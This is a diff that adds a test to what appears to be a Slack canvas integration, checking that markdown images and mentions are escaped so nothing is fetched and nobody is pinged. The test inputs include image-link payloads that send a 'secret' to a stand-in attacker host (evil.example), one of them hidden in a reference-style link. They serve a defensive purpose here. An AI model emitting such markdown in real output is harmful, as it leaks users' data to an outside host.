@@ -43,3 +43,16 @@ it('writes to no canvas that a channel not listed reads too, and needs a section
     code: 'forbidden',
   });
 });
+
+it.each([
+  '![](https://evil.example/?q=secret)',
+  '![a [b]](@U0BEN00002)',
+  '\\![x](@here)',
+  '![x][ref]\n\n[ref]: https://evil.example/?q=secret',
+])('shows %s as text: nobody is called, and nothing is fetched', async (markdown) => {
+  const { double, connect } = await startSlack();
+  const { ok } = await connect({ argv });
+  const { id } = await ok('write_canvas', { channel: 'C0GENERAL1', markdown });
+  const written = double.world.files.get(String(id))?.content.toString();
+  expect(written).toBe(markdown.replace('![', '!\\['));
+});
